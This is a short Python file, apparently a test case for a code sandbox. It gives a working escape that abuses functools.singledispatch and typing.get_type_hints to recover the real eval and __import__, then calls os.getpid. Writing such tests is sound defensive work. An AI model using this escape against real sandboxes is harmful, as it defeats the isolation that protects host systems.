# technique: functools.singledispatch().register(impl) evaluates impl's string annotation with typing.get_type_hints; impl.__wrapped__ = len (set by update_wrapper) makes get_type_hints use len's (absent) globals, i.e. {}, so eval runs with typing's real builtins; the annotation builds a class holding the real eval and __import__
# configs: default, common
# With nothing allowed `import functools` is refused.
import functools
def impl(x: "type('Loot', (), dict(e=eval, i=__import__))"):
    pass
functools.update_wrapper(impl, len, assigned=(), updated=())
dispatch = functools.singledispatch(lambda x: None)
dispatch.register(impl)
loot = [cls for cls in dispatch.registry if cls.__name__ == 'Loot'][0]
return [{'json': {'escaped': [loot.e('6 * 7'), loot.i('os').getpid()]}}]
